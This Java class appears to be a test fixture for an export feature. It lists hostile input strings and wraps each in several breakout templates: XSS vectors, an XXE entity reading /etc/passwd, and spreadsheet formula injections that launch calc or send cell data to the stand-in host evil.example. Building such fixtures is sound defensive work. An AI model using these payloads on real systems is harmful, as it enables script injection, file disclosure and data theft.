package app.treefall.export;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;

/// Two hundred things that somebody may type, paste or import, hoping that a reader runs them.
public final class HostileWords {

    private static final List<String> PAYLOADS = List.of(
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "data:text/html;base64,PHNjcmlwdD4=",
            "vbscript:msgbox(1)",
            "file:///etc/passwd",
            "</title><script>alert(1)</script>",
            "</style><script>alert(1)</script>",
            "</textarea><script>alert(1)</script>",
            "<style>*{background:url(https://evil.example/x)}</style>",
            "background:url(javascript:alert(1))",
            "expression(alert(1))",
            "<iframe src=https://evil.example></iframe>",
            "<object data=https://evil.example></object>",
            "<embed src=https://evil.example>",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<meta http-equiv=refresh content=0;url=https://evil.example>",
            "<base href=https://evil.example/>",
            "<form action=https://evil.example><input name=a>",
            "<a href=javascript:alert(1)>x</a>",
            "[x](javascript:alert(1))",
            "[x](data:text/html,1)",
            "![x](https://evil.example/p.png)",
            "<https://evil.example/>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;alert(1)&#60;/script&#62;",
            "&#x3c;script&#x3e;",
            "]]><script>x</script>",
            "<!--<script>x</script>-->",
            "<![CDATA[<script>x</script>]]>",
            "<?xml version=\"1.0\"?>",
            "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
            "\u202E<tpircs>",
            "`<script>`",
            "| cell | cell |\n| --- | --- |",
            "# heading\n- list\n1. one\n***\n===",
            "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")",
            "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+IMPORTXML(CONCAT(\"https://evil.example\"),\"//a\")");
    private static final List<String> WRAPPERS =
            List.of("%s", "\"%s", "'%s'>", "\" onmouseover=\"x\" %s", "text %s \u009B31m \uFFFF");

    private HostileWords() {}

    /// Each with all of its wrappings in one: what holds them all holds every one of them.
    public static List<String> bundled() {
        return PAYLOADS.stream()
                .map(payload -> String.join(
                        " ",
                        WRAPPERS.stream()
                                .map(wrapper -> wrapper.replace("%s", payload))
                                .toList()))
                .toList();
    }

    /// All of them in one of the wrappings, each on a line of its own.
    public static String wrapped(int wrapping) {
        var wrapper = WRAPPERS.get(wrapping);
        return PAYLOADS.stream().map(payload -> wrapper.replace("%s", payload)).collect(Collectors.joining("\n"));
    }

    public static List<String> all() {
        var all = new ArrayList<String>();
        for (var payload : PAYLOADS) {
            for (var wrapper : WRAPPERS) {
                all.add(wrapper.replace("%s", payload));
            }
        }
        return all;
    }
}
